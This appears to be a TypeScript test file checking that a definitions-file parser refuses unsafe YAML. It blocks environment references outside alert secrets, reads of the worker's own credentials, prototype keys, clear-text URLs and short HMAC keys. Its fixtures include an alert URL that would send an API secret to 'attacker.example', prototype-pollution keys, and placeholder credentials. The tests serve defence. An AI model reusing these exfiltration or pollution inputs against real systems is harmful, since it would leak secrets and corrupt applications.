// A careless (or hostile) definitions file: environment references where secrets do not belong, the
// worker's own credentials, prototype keys, clear-text channel URLs and short HMAC keys.
import { DefinitionsError, parseDefinitions } from '../../../src/definitions';

const ENV = {
  M3TER_API_SECRET: 'the-real-api-secret-0123456789',
  TEMPORAL_API_KEY: 'temporal-cloud-key-0123456789',
  AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  SLACK_URL: 'https://hooks.slack.com/services/T0/B0/abcdefghijklmnop',
  HMAC: 'hmac-0123456789abcdef0123456789abcdef',
};

function problems(yaml: string): string[] {
  try {
    parseDefinitions(yaml, ENV);
  } catch (e) {
    expect(e).toBeInstanceOf(DefinitionsError);
    const err = e as DefinitionsError;
    const text = [err.message, ...err.problems].join('\n');
    for (const value of Object.values(ENV)) expect(text).not.toContain(value);
    return err.problems;
  }
  throw new Error('expected the file to be refused');
}

const exportWith = (extra: string) =>
  `exports:\n  - name: e\n    kind: operational\n    window: none\n    request: { operationalDataTypes: [ACCOUNTS] }\n${extra}`;

describe('environment references in a definitions file', () => {
  it('${M3TER_API_SECRET} in a description is refused, its value never read', () => {
    expect(problems(exportWith('    description: "${M3TER_API_SECRET}"\n'))).toEqual([
      "exports[0] (e).description: ${M3TER_API_SECRET}: environment references are only allowed in an alert channel's url, secret, routingKey and token (write $${ for a literal ${)",
    ]);
  });

  it("the worker's own credentials are refused even where references are allowed", () => {
    const got = problems(`alerts:
  - { name: a, type: slack, url: "https://attacker.example/\${M3TER_API_SECRET}" }
  - { name: b, type: webhook, url: "https://hooks.example.com/x", secret: "\${TEMPORAL_API_KEY}" }
  - { name: c, type: pagerduty, routingKey: "\${AWS_SECRET_ACCESS_KEY}" }
exports: []
`);
    expect(got).toEqual([
      "alerts[0] (a).url: ${M3TER_API_SECRET} names one of the worker's own variables (M3TER_*, TEMPORAL_*, AWS_*), which a definitions file may not read",
      "alerts[1] (b).secret: ${TEMPORAL_API_KEY} names one of the worker's own variables (M3TER_*, TEMPORAL_*, AWS_*), which a definitions file may not read",
      "alerts[2] (c).routingKey: ${AWS_SECRET_ACCESS_KEY} names one of the worker's own variables (M3TER_*, TEMPORAL_*, AWS_*), which a definitions file may not read",
    ]);
  });

  it('references in request fields, names and schedules are refused', () => {
    const got = problems(exportWith('    schedule: { cron: "${CRON}" }\n'));
    expect(got[0]).toMatch(
      /^exports\[0\] \(e\)\.schedule\.cron: \$\{CRON\}: environment references are only allowed/,
    );
  });

  it('channel secrets still resolve from their own variables', () => {
    const defs = parseDefinitions(
      `alerts:
  - { name: s, type: slack, url: "\${SLACK_URL}" }
  - { name: w, type: webhook, url: "https://hooks.example.com/x", secret: "\${HMAC}" }
exports: []
`,
      ENV,
    );
    expect(defs.alerts.map((a) => a.url)).toEqual([ENV.SLACK_URL, 'https://hooks.example.com/x']);
  });
});

describe('prototype keys', () => {
  it.each(['__proto__', 'constructor', 'prototype'])(
    '%s is refused as an unknown field and sets nothing',
    (key) => {
      const got = problems(`alerts:
  - name: s
    type: slack
    ${key}: { url: "https://attacker.example/hook" }
exports: []
`);
      expect(got).toEqual([
        `alerts[0] (s).${key}: is not a recognised field (never allowed as a key)`,
        'alerts[0] (s).url: is required for a slack channel (its incoming-webhook URL), unless it has a bot token',
      ]);
    },
  );
});

describe('channel transport', () => {
  it('a clear-text channel URL off loopback is refused; loopback http is accepted', () => {
    expect(
      problems(
        `alerts:\n  - { name: s, type: slack, url: "http://hooks.example.com/services/x" }\nexports: []\n`,
      ),
    ).toEqual(['alerts[0] (s).url: must be an https URL (http only to localhost/127.0.0.1/::1)']);
    const ok = parseDefinitions(
      `alerts:\n  - { name: s, type: slack, url: "http://127.0.0.1:9/hook" }\nexports: []\n`,
      ENV,
    );
    expect(ok.alerts[0].url).toBe('http://127.0.0.1:9/hook');
  });

  it('an HMAC secret under 32 characters is refused', () => {
    expect(
      problems(
        `alerts:\n  - { name: w, type: webhook, url: "https://h.example.com/x", secret: "${'s'.repeat(31)}" }\nexports: []\n`,
      ),
    ).toEqual(['alerts[0] (w).secret: must be at least 32 characters (e.g. openssl rand -hex 32)']);
  });
});
